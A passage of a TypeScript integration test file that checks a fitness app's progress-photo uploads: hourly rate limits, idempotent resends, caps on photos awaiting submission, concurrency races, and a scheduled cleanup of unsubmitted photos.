      const row = await ctx.app.orm.em.fork().findOneOrFail(Media, res.body.image.id);
      const stored = (await uploadStorage(ctx.app.config).get(row.path))!;
      expect(stored.includes('SEFH')).toBe(false);
      expect(stored.subarray(-2).equals(Buffer.from([0xff, 0xd9]))).toBe(true);
    });
  });

  describe('progress photos: 20 uploads an hour, 30 waiting for a submission, deleted after a day unsubmitted', () => {
    const photoRows = (userId: number) => ctx.app.orm.em.fork().count(Media, { owner: userId });
    const connection = () => ctx.app.orm.em.fork().getConnection();

    /** POST /api/user/image with its headers in the answer, and an Idempotency-Key when given. */
    async function uploadWithHeaders(token: string, key?: string) {
      const form = await multipart({}, [
        { name: 'image', filename: 'front.jpg', type: 'image/jpeg', data: await jpeg() },
      ]);
      return postMultipart(ctx.app, '/api/user/image', form, token, key ? { 'idempotency-key': key } : {});
    }

    /** warrior.uploadImage with FormData over real HTTP (tRPC reads FormData from the request stream). */
    async function uploadTrpc(token: string) {
      if (!ctx.app.server.listening) await ctx.app.listen({ port: 0, host: '127.0.0.1' });
      const { port } = ctx.app.server.address() as AddressInfo;
      const form = new FormData();
      form.append('image', new Blob([new Uint8Array(await jpeg())], { type: 'image/jpeg' }), 'front.jpg');
      const res = await fetch(`http://127.0.0.1:${port}/trpc/warrior.uploadImage`, {
        method: 'POST',
        body: form,
        headers: { authorization: `Bearer ${token}` },
      });
      return { status: res.status, headers: res.headers, body: (await res.json()) as any };
    }

    /** Photos waiting for a submission, written straight into the table (nothing here reads their files). */
    async function waitingPhotos(userId: number, n: number) {
      await connection().execute(
        `insert into media (kind, path, mime, size, owner_id, created_at)
         select 'progress_photo', 'uploads/waiting-' || gen_random_uuid() || '.jpg', 'image/jpeg', 1, ?, now()
         from generate_series(1, ?)`,
        [userId, n],
      );
    }

    /** Three uploaded photos, put in the member's calibration data analysis (a chamber snapshot uses them). */
    async function submittedPhotos(member: { token: string; userId: number }) {
      const ids: number[] = [];
      for (let i = 0; i < 3; i++) ids.push((await uploadPhoto(ctx.app, member.token, await jpeg())).body.image.id);
      const track = '/api/user/channel/warrior/calibration/phase';
      const token = member.token;
      expect((await rest(ctx.app, 'POST', `${track}/vo2`, { token, body: { time_to_complete: 900 } })).status).toBe(
        200,
      );
      await ctx.app.orm.em.fork().nativeUpdate(Evolution, { user: member.userId }, { phase: 3 });
      expect((await rest(ctx.app, 'POST', `${track}/data-analysis`, { token, body: dataAnalysis(ids) })).status).toBe(
        200,
      );
      // Marked submitted with the snapshot: they leave the small index of photos still waiting.
      const photos = await ctx.app.orm.em.fork().find(Media, { id: { $in: ids } });
      expect(photos.map((m) => m.submittedAt !== null)).toEqual([true, true, true]);
      return ids;
    }

    /** Sets photos' upload time back by so many hours, in SQL, rather than waiting. */
    const uploadedHoursAgo = (ids: number[], hours: number) =>
      connection().execute(`update media set created_at = now() - make_interval(hours => ?) where id in (?)`, [
        hours,
        ids,
      ]);
    const pathOf = async (id: number) => (await ctx.app.orm.em.fork().findOneOrFail(Media, id)).path;
    const stored = async (path: string) => (await uploadStorage(ctx.app.config).stat(path)) !== null;

    it.skipIf(driver === 's3')(
      'takes 20 uploads a member an hour through REST and tRPC together; the 21st is a 429 with Retry-After, a resend is not counted',
      async () => {
        const member = await trainingMember(ctx.app);
        const other = await trainingMember(ctx.app);
        const key = `photo-limit-${Date.now()}`;
        const first = await uploadWithHeaders(member.token, key);
        expect(first.status).toBe(201);
        expect(first.headers).toMatchObject({ 'x-ratelimit-limit': '20', 'x-ratelimit-remaining': '19' });
        for (let i = 0; i < 18; i++) expect((await uploadWithHeaders(member.token)).status).toBe(201);
        expect((await uploadTrpc(member.token)).status).toBe(200);

        const refused = await uploadWithHeaders(member.token);
        expect(refused).toMatchObject({ status: 429, body: { message: 'Too Many Attempts.' } });
        expect(Number(refused.headers['retry-after'])).toBeGreaterThan(3500);
        expect(Number(refused.headers['retry-after'])).toBeLessThanOrEqual(3600);
        const refusedTrpc = await uploadTrpc(member.token);
        expect(refusedTrpc).toMatchObject({ status: 429, body: { error: { message: 'Too Many Attempts.' } } });
        expect(Number(refusedTrpc.headers.get('retry-after'))).toBeGreaterThan(3500);
        expect(await photoRows(member.userId)).toBe(20);

        // A resend of a stored upload answers it as before: nothing new is stored, so nothing is counted.
        const resent = await uploadWithHeaders(member.token, key);
        expect(resent).toMatchObject({ status: 201, body: first.body });
        expect(resent.headers['idempotent-replayed']).toBe('true');
        // The limit is the member's own.
        expect((await uploadWithHeaders(other.token)).status).toBe(201);
      },
    );

    it('holds 30 photos waiting for a submission: the 31st, through either door, is a 422 that says why and stores nothing', async () => {
      const member = await trainingMember(ctx.app);
      // Submitted photos are not waiting: these three do not count.
      await submittedPhotos(member);
      await waitingPhotos(member.userId, 29);
      expect((await uploadPhoto(ctx.app, member.token, await jpeg())).status).toBe(201);
      const [rows, files] = [await mediaRows(), await uploadedFiles()];
      const message = PHOTO_MESSAGE.tooManyUnsubmitted;
      expect(await uploadPhoto(ctx.app, member.token, await jpeg())).toEqual({
        status: 422,
        body: { message, errors: { image: [message] } },
      });
      expect(await uploadTrpc(member.token)).toMatchObject({
        status: 422,
        body: { error: { message, data: { errors: { image: [message] } } } },
      });
      expect(await mediaRows()).toBe(rows);
      expect(await uploadedFiles()).toEqual(files);
      expect(await photoRows(member.userId)).toBe(33);
    });

    it('lets exactly one of four uploads sent at once at 29 waiting photos in, and keeps only its file', async () => {
      const member = await trainingMember(ctx.app);
      await waitingPhotos(member.userId, 29);
      const files = await uploadedFiles();
      const photo = await jpeg();
      // Each media insert takes 300 ms here: uploads sent at once are all between their count and their commit together.
      await connection().execute(`
        create function test_slow_insert() returns trigger language plpgsql as $$ begin perform pg_sleep(0.3); return new; end $$;
        create trigger test_slow_insert before insert on media for each row execute function test_slow_insert()`);
      let answers;
      try {
        answers = await Promise.all([1, 2, 3, 4].map(() => uploadPhoto(ctx.app, member.token, photo)));
      } finally {
        await connection().execute('drop trigger test_slow_insert on media; drop function test_slow_insert()');
      }
      expect(answers.map((a) => a.status).sort()).toEqual([201, 422, 422, 422]);
      expect(await photoRows(member.userId)).toBe(30);
      const accepted = answers.find((a) => a.status === 201)!.body.image.id as number;
      expect(await uploadedFiles()).toEqual([...files, await pathOf(accepted)].sort());
    });

    it('deletes, a day after upload, the photos no submission uses, file and row; keeps submitted and recent ones', async () => {
      const member = await trainingMember(ctx.app);
      const submitted = await submittedPhotos(member);
      const upload = async () => (await uploadPhoto(ctx.app, member.token, await jpeg())).body.image.id as number;
      const [stale, recent] = [await upload(), await upload()];
      await uploadedHoursAgo([...submitted, stale], 25);
      await uploadedHoursAgo([recent], 23);
      const stalePath = await pathOf(stale);
      expect(await stored(stalePath)).toBe(true);

      // Through the job queue, as the hourly schedule queues it.
      await connection().execute(`select graphile_worker.add_job(?, '{}'::json, max_attempts => 1)`, [
        UNSUBMITTED_PHOTOS_TASK,
      ]);
      await expect.poll(() => ctx.app.orm.em.fork().count(Media, { id: stale }), { timeout: 10_000 }).toBe(0);
      expect(await stored(stalePath)).toBe(false);
      for (const id of [...submitted, recent]) {
        expect(await stored(await pathOf(id))).toBe(true);
        expect((await rest(ctx.app, 'GET', `/api/user/image/${id}`, { token: member.token })).status).toBe(200);
      }
    });

    it('keeps the row of a photo whose file the store would not delete, fails the run, and deletes both on the next', async () => {
      const member = await trainingMember(ctx.app);
      const photo = (await uploadPhoto(ctx.app, member.token, await jpeg())).body.image.id as number;
      await uploadedHoursAgo([photo], 25);
      const path = await pathOf(photo);
      // The store fails: on S3 the endpoint is unreachable; on the folder the name is taken by a folder (unlink refuses).
      const broken = s3 ? { dataDir, storage: { ...s3.storage, endpoint: 'http://127.0.0.1:9' } } : ctx.app.config;
      const file = join(dataDir, path);
      if (!s3) {
        rmSync(file);
        mkdirSync(file);
      }
      try {
        await expect(deleteUnsubmittedPhotos({ em: ctx.app.orm.em.fork(), config: broken })).rejects.toThrow(
          '1 unsubmitted photo files could not be deleted',
        );
      } finally {
        if (s3) await uploadStorage(broken).close();
        else rmSync(file, { recursive: true });
      }
      expect(await ctx.app.orm.em.fork().count(Media, { id: photo })).toBe(1);
      // The bucket still holds the file; the folder's was swapped for the folder above.
      expect(await stored(path)).toBe(driver === 's3');
      expect(await deleteUnsubmittedPhotos({ em: ctx.app.orm.em.fork(), config: ctx.app.config })).toBe(1);
      expect(await ctx.app.orm.em.fork().count(Media, { id: photo })).toBe(0);
      expect(await stored(path)).toBe(false);
    });
  });
});
